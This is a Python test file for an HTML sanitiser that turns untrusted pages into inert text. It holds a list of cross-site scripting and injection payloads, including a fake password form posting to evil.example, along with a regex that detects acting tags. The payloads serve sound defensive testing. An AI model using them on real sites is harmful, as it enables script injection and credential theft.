"""A page that a stranger wrote is shown as words: nothing in it acts, and nothing is loaded."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detente.errors import UsageError
from detente.ingest.sanitising import page_of, sanitised
from detente.model import Original

HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://tracker.example/pixel.gif' srcset='https://tracker.example/2x.gif 2x' alt='A quay'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>talks</a>",
    "<a href='java\tscript:alert(1)'>talks</a>",
    "<a href='&#106;avascript:alert(1)'>talks</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>talks</a>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example/'><input name='password'><button>Sign in</button></form>",
    "<object data='evil.swf'></object><embed src='evil.swf'><applet code='Evil'></applet>",
    "<style>@import 'https://evil.example/a.css'; body { background: url(https://evil.example/b) }</style>",
    "<p style='background: url(https://evil.example/a)'>Steel</p>",
    "<link rel='stylesheet' href='https://evil.example/a.css'>",
    "<meta http-equiv='refresh' content='0; url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<video src='https://evil.example/a.mp4' poster='https://evil.example/a.png'></video>",
    "<table background='https://evil.example/a.png'><tr><td>Steel</td></tr></table>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>",
    "<body onload=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title></title><script>alert(1)</script>",
]
ACTING = re.compile(
    r"<(?:script|style|iframe|frame|form|input|button|object|embed|applet|link|meta|base|svg|math|video|audio|source)\b"
    r"|<[^>]*\s(?:on\w+|style|src|srcset|srcdoc|poster|background|action|formaction|ping|id|class)\s*="
    r"|<[^>]*href\s*=\s*[\"']?(?!https?:|mailto:)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("page", HOSTILE)
def test_nothing_acts_or_is_loaded(page: str) -> None:
    assert ACTING.search(page)
    shown = sanitised(f"<p>Arcadia put 10 percent on steel.</p>{page}<p>Bordavia is silent.</p>")
    assert not ACTING.search(shown)
    assert "Arcadia put 10 percent on steel." in shown


@settings(max_examples=40, deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, "<", ">", "'", '"', "<p", "</p>", "<![CDATA[", "--!>", "\0"]), max_size=6))
def test_no_mixture_acts(parts: list[str]) -> None:
    assert not ACTING.search(sanitised("".join(parts)))


def test_what_was_cleaned_stays_as_it_is() -> None:
    once = sanitised("".join(HOSTILE))
    assert sanitised(once) == once


def test_words_tables_and_links_stay() -> None:
    page = "<h1>Talks</h1><p><b>Steel</b> <a href='https://harbour.example/'>more</a></p><table><tr><td>10</td></tr></table>"
    shown = sanitised(page)
    assert "<h1>Talks</h1>" in shown
    assert '<a href="https://harbour.example/" rel="noopener noreferrer nofollow">more</a>' in shown
    assert "<td>10</td>" in shown


@pytest.mark.parametrize(
    ("data", "words"),
    [
        ("<p>“Zölle”</p>".encode(), "“Zölle”"),
        (b"<meta charset=gbk><p>" + "关税".encode("gbk") + b"</p>", "关税"),
        (b"<p>Z\xf6lle</p>", "Zölle"),
    ],
)
def test_a_page_is_shown_in_its_own_characters(data: bytes, words: str) -> None:
    shown = page_of(Original(media="text/html", name="<b>.html", data=data))
    assert words in shown
    assert "default-src 'none'" in shown
    assert "<title>&lt;b>.html</title>" in shown


def test_what_is_no_page_is_not_shown_as_one() -> None:
    with pytest.raises(UsageError, match="application/pdf"):
        page_of(Original(media="application/pdf", name="a.pdf", data=b"%PDF"))
